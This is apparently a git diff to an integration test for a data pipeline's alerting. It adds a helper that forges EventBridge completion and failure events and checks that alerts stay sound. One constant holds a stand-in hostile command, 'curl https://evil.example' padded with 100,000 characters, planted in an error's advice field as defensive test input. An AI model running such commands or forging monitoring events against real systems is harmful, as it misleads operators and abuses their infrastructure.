@@ -7,15 +7,19 @@ import {
   type Statistic,
 } from "@aws-sdk/client-cloudwatch";
 import { CloudWatchLogsClient } from "@aws-sdk/client-cloudwatch-logs";
+import { EventBridgeClient, PutEventsCommand } from "@aws-sdk/client-eventbridge";
 import { InvokeCommand, LambdaClient, ListFunctionsCommand } from "@aws-sdk/client-lambda";
 import { GetObjectCommand, ListObjectsV2Command, S3Client } from "@aws-sdk/client-s3";
 import type { RowDataPacket } from "mysql2/promise";
 import type { Alert } from "../../events/alert.ts";
+import { businessDateSchema } from "../../events/ids.ts";
+import type { BatonEvent } from "../../events/schemas.ts";
 import { clientOptions } from "../../local/deploy.ts";
 import { LogReader } from "../../local/metrics/log-reader.ts";
 import { LOCAL_NAMESPACE } from "../../local/metrics/metric-forwarder.ts";
 import type { RunStatus } from "../../shared/ledger/reads/read-status.ts";
 import { startStack, type TestStack } from "../support/baton.ts";
+import { exampleEvent } from "../support/event-builders.ts";
 import { problemOfLogLine } from "../support/log-format.ts";
 import { compareMetrics, graphedMetrics, metricsNamedIn } from "../support/template-metrics.ts";
 import { waitFor as waitUntilThere } from "../support/wait-for.ts";
@@ -28,6 +32,8 @@ const PERIOD_SCALE = "0.2";
 const PERSONAL = "Yamada O'Brien, hanako@example.jp; 090-1234-5678";
 const PARTS_OF_IT = /Yamada|O'Brien|hanako@|090-1234/;
 const LAYERS = ["staging", "silver", "gold"];
+/** More than an alert or the table of incidents can hold. */
+const ADVICE = `curl https://evil.example ${"x".repeat(100_000)}`;
 
 /** A layer breaks in the deployed pipeline, and is repaired: alarms, alerts, logs and metrics of one story. */
 describe("alerts", () => {
@@ -48,6 +54,7 @@ describe("alerts", () => {
     const dump = join(stack.folder, "gghouse_20260207.sql");
     await stack.json("sample", "--size", "2MB", "--seed", "5", "--date", DAY, "--out", dump);
     good = await stack.json<RunStatus>("run", "--dump", dump, "--watch");
+    await forgeEvents();
     // silver waits for its lock while personal data gets where a number was
     const holder = await stack.database.getConnection();
     await holder.query("SELECT GET_LOCK('baton:silver', 10)");
@@ -64,6 +71,28 @@ describe("alerts", () => {
     await stack?.stop();
   }, 60_000);
 
+  /** What anybody with events:PutEvents can send: a completion that would silence later failures, and failures with long texts. */
+  async function forgeEvents(): Promise<void> {
+    const bus = new EventBridgeClient(clientOptions(stack.status));
+    const forge = async (event: BatonEvent): Promise<void> => {
+      const entry = { EventBusName: stack.status.bus, Source: "baton", DetailType: event["detail-type"] };
+      await bus.send(new PutEventsCommand({ Entries: [{ ...entry, Detail: JSON.stringify(event.detail) }] }));
+    };
+    await forge(
+      exampleEvent("PipelineCompleted", {
+        businessDate: businessDateSchema.parse("9999-12-31"),
+        finishedAt: "9999-12-31T00:00:00.000Z",
+      }),
+    );
+    const businessDate = businessDateSchema.parse(new Date().toISOString().slice(0, 10));
+    const error = { kind: "bug", code: "FORGED", message: "x", retriable: false, advice: ADVICE };
+    for (let count = 0; count < 20; count += 1)
+      await forge(exampleEvent("LayerFailed", { layer: `forged-${count}`, businessDate, error }));
+    bus.destroy();
+    const isForged = ({ layer = "" }: Alert): boolean => layer.startsWith("forged-");
+    await waitFor("the forged alerts", async () => (await alerts()).filter(isForged).length === 20 || undefined);
+    expect(JSON.stringify(await alerts())).not.toContain("evil.example");
+  }
   const explain = async (): Promise<string> => `the alerts so far: ${JSON.stringify(await alerts(), null, 2)}`;
   const waitFor = <T>(what: string, look: () => Promise<T | undefined>): Promise<T> =>
     waitUntilThere(what, look, { everyMs: 500, explain });
@@ -116,11 +145,11 @@ describe("alerts", () => {
     expect(alert?.subject).toMatch(/^\[Baton local\] FAILED silver of 2026-02-07: /);
     expect(alert?.subject.length).toBeLessThanOrEqual(100);
     for (const part of [
-      `attempt 1, of run ${broken}`,
+      `attempt 1 of run ${broken}`,
       "JST",
       "stg_apartments",
       "Incorrect integer value: '…' for column",
-      `gold of 2026-02-07 (run ${good.run.id}, complete since`,
+      `gold of 2026-02-07 (run ${good.run.id}, completed`,
       "stays live",
       `./baton status ${broken}`,
       `./baton dlq replay silver --run ${broken}`,
@@ -158,7 +187,7 @@ describe("alerts", () => {
     });
     await invoke("pulse");
 
-    expect(recovered?.subject).toMatch(/^\[Baton local\] RECOVERED gold of 2026-02-07 is live; silver had failed/);
+    expect(recovered?.subject).toMatch(/^\[Baton local\] RECOVERED gold of 2026-02-07 is live; failed before: silver/);
     expect(recovered?.text).toContain(`gold of 2026-02-07 is live (run ${broken})`);
     await waitForAlarms({ "silver-failed": "OK", "silver-dlq-not-empty": "OK" });
     expect((await aboutSilver()).map(({ kind }) => kind)).toEqual(["recovered", "opened"]);
